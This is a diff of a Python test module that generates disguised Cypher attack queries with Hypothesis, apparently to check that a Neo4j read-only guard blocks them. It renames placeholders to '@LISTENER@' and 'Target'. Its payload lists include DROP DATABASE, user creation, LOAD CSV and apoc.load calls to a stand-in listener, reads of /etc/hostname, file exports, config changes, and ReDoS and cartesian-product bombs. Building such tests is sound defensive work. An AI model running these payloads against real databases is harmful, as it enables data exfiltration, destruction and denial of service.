@@ -1,7 +1,7 @@
 """Queries that attack: harmless ones with what a question may not do in them, and every way that we know to hide it.
 
 What writes leaves a mark, the label or the property `Attacked`, so that it is found also in a database that others use.
-`HERE` stands for the address of a listener, `FOLDER` for a folder that nothing may change.
+`@LISTENER@` stands for the address of a listener, `@FOLDER@` for a folder that nothing may change.
 """
 
 from __future__ import annotations
@@ -11,7 +11,7 @@ from collections.abc import Callable
 
 from hypothesis import strategies as st
 
-FILM = "MATCH (n:Film) "
+TARGET = "MATCH (n:Target) "
 WRITES = [
     "CREATE (x:Attacked)",
     "CREATE (n)-[:ATTACKED]->(x:Attacked)",
@@ -23,7 +23,7 @@ WRITES = [
     "SET n:Attacked",
     "SET (n).attacked = 1",
     "REMOVE n.name",
-    "REMOVE n:Film",
+    "REMOVE n:Target",
     "DETACH DELETE n",
     "NODETACH DELETE n",
     "DELETE n",
@@ -32,12 +32,12 @@ WRITES = [
     "INSERT (x:Attacked)",
 ]
 ADMIN = [
-    "CREATE INDEX attacked FOR (n:Film) ON (n.year)",
-    "CREATE TEXT INDEX attacked FOR (n:Film) ON (n.year)",
-    "CREATE FULLTEXT INDEX attacked FOR (n:Film) ON EACH [n.year]",
-    "CREATE CONSTRAINT attacked FOR (n:Film) REQUIRE n.name IS UNIQUE",
-    "DROP INDEX kept",
-    "DROP INDEX kept IF EXISTS",
+    "CREATE INDEX attacked FOR (n:Target) ON (n.year)",
+    "CREATE TEXT INDEX attacked FOR (n:Target) ON (n.year)",
+    "CREATE FULLTEXT INDEX attacked FOR (n:Target) ON EACH [n.year]",
+    "CREATE CONSTRAINT attacked FOR (n:Target) REQUIRE n.name IS UNIQUE",
+    "DROP INDEX attack_kept",
+    "DROP INDEX attack_kept IF EXISTS",
     "DROP DATABASE neo4j",
     "CREATE DATABASE attacked",
     "CREATE USER attacked SET PASSWORD 'long enough' CHANGE NOT REQUIRED",
@@ -46,23 +46,23 @@ ADMIN = [
     "SHOW TRANSACTIONS",
     "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
     "USE system SHOW USERS",
-    "DELETE FROM Film",
-    "UPDATE Film SET attacked = 1",
-    "DROP TYPE Film UNSAFE",
+    "DELETE FROM Target",
+    "UPDATE Target SET attacked = 1",
+    "DROP TYPE Target UNSAFE",
 ]
 OUTSIDE = [
-    "LOAD CSV FROM 'HERE' AS x",
-    "LOAD CSV WITH HEADERS FROM 'file://FOLDER/canary.csv' AS x",
+    "LOAD CSV FROM '@LISTENER@' AS x",
+    "LOAD CSV WITH HEADERS FROM 'file://@FOLDER@/canary.csv' AS x",
     "LOAD CSV FROM 'file:///etc/hostname' AS x",
-    "CALL apoc.load.json('HERE') YIELD value AS x",
-    "CALL apoc.load.jsonParams('HERE', {method: 'POST'}, 'x') YIELD value AS x",
-    "CALL apoc.load.xml('HERE') YIELD value AS x",
-    "CALL apoc.load.csv('file://FOLDER/canary.csv') YIELD map AS x",
-    "CALL apoc.load.arrow('HERE') YIELD value AS x",
-    "CALL apoc.import.json('HERE') YIELD nodes AS x",
-    "CALL apoc.import.csv([{fileName: 'HERE', labels: ['Attacked']}], [], {}) YIELD nodes AS x",
-    "CALL apoc.export.csv.all('FOLDER/attacked.csv', {}) YIELD file AS x",
-    "CALL apoc.export.cypher.query('MATCH (n) RETURN n', 'FOLDER/attacked.cypher', {}) YIELD file AS x",
+    "CALL apoc.load.json('@LISTENER@') YIELD value AS x",
+    "CALL apoc.load.jsonParams('@LISTENER@', {method: 'POST'}, 'x') YIELD value AS x",
+    "CALL apoc.load.xml('@LISTENER@') YIELD value AS x",
+    "CALL apoc.load.csv('file://@FOLDER@/canary.csv') YIELD map AS x",
+    "CALL apoc.load.arrow('@LISTENER@') YIELD value AS x",
+    "CALL apoc.import.json('@LISTENER@') YIELD nodes AS x",
+    "CALL apoc.import.csv([{fileName: '@LISTENER@', labels: ['Attacked']}], [], {}) YIELD nodes AS x",
+    "CALL apoc.export.csv.all('@FOLDER@/attacked.csv', {}) YIELD file AS x",
+    "CALL apoc.export.cypher.query('MATCH (n) RETURN n', '@FOLDER@/attacked.cypher', {}) YIELD file AS x",
     "CALL apoc.export.json.all('attacked.json', {}) YIELD file AS x",
     "CALL db.checkpoint() YIELD success AS x",
     "CALL dbms.setConfigValue('server.directories.import', '/') ",
@@ -74,19 +74,19 @@ OUTSIDE = [
     "CALL db.clearQueryCaches() YIELD value AS x",
     "CALL apoc.create.node(['Attacked'], {}) YIELD node AS x",
     "CALL apoc.create.setProperty(n, 'attacked', 1) YIELD node AS x",
-    "CALL apoc.refactor.rename.label('Film', 'Attacked') YIELD batches AS x",
+    "CALL apoc.refactor.rename.label('Target', 'Attacked') YIELD batches AS x",
     "CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'SET n:Attacked', {}) YIELD batches AS x",
     "CALL apoc.periodic.submit('attacked', 'CREATE (:Attacked)') YIELD name AS x",
     "CALL apoc.cypher.doIt('CREATE (:Attacked)', {}) YIELD value AS x",
     "CALL apoc.cypher.runWrite('CREATE (:Attacked)', {}) YIELD value AS x",
-    "CALL apoc.cypher.runSchema('CREATE INDEX attacked FOR (n:Film) ON (n.year)', {}) YIELD value AS x",
+    "CALL apoc.cypher.runSchema('CREATE INDEX attacked FOR (n:Target) ON (n.year)', {}) YIELD value AS x",
     "CALL apoc.do.when(true, 'CREATE (:Attacked)', '') YIELD value AS x",
     "CALL apoc.trigger.add('attacked', 'RETURN 1', {}) YIELD name AS x",
     "CALL apoc.nodes.delete(n, 1) YIELD value AS x",
     "CALL apoc.merge.node(['Attacked'], {a: 1}) YIELD node AS x",
     "CALL apoc.util.sleep(5000)",
     "WITH apoc.cypher.runFirstColumnSingle('CREATE (x:Attacked) RETURN x', {}) AS x",
-    "WITH apoc.load.json('HERE') AS x",
+    "WITH apoc.load.json('@LISTENER@') AS x",
     "WITH apoc.static.get('a') AS x",
 ]
 BOMBS = [
@@ -102,7 +102,7 @@ BOMBS = [
     "WITH apoc.coll.fill('x', 2000000000) AS x",
     "MATCH (a), (b), (c), (d), (e), (f), (g), (h) WITH count(*) AS x",
     "MATCH (a)-[*1..30]-(b) WITH count(*) AS x",
-    "WITH '\u0061aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' =~ '(a+)+b' AS x",
+    "WITH 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' =~ '(a+)+b' AS x",
 ]
 FRAMES = [
     "{n}{p} RETURN n",
@@ -189,7 +189,7 @@ CHANGES: list[Change] = [_spaced, _spaced, _cased, _cased, _quoted, _escaped, _w
 
 def _query(payloads: list[str], chance: random.Random) -> str:
     parts = chance.choices(payloads, k=1 + (chance.random() < 0.2))
-    text = chance.choice(FRAMES).format(n=FILM if chance.random() < 0.9 else "", p=" WITH * ".join(parts))
+    text = chance.choice(FRAMES).format(n=TARGET if chance.random() < 0.9 else "", p=" WITH * ".join(parts))
     for change in chance.choices(CHANGES, k=chance.choice([0, 0, 1, 1, 1, 2, 3])):
         text = change(chance, text)
     return text
@@ -197,4 +197,5 @@ def _query(payloads: list[str], chance: random.Random) -> str:
 
 def queries(payloads: list[str], count: int) -> st.SearchStrategy[list[str]]:
     """So many queries around these payloads: batches, since the laws cost more than a query."""
-    return st.randoms(use_true_random=False).map(lambda chance: [_query(payloads, chance) for _ in range(count)])
+    seeds = st.integers(0, 2**64 - 1).map(random.Random)
+    return seeds.map(lambda chance: [_query(payloads, chance) for _ in range(count)])
